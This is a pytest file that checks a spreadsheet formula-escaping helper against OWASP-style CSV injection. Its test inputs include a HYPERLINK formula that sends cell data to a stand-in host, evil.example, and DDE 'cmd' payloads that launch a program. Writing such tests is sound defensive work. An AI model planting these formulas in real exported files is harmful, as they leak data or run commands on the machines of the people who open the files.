"""model.display: shared display conventions (colours, formula-safe text cells)."""

from __future__ import annotations

import pytest

from model.display import formula_safe


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\tgpt-4o", "'\tgpt-4o"),
        ("\rgpt-4o", "'\rgpt-4o"),
        ("gpt-4o", "gpt-4o"),
        ("claude-sonnet-4-5 = best", "claude-sonnet-4-5 = best"),  # only a leading sign counts
        ("", ""),
    ],
)
def test_formula_starts_get_a_leading_quote(text: str, shown: str) -> None:
    # OWASP CSV injection: a leading ' makes a spreadsheet show the cell as text.
    assert formula_safe(text) == shown
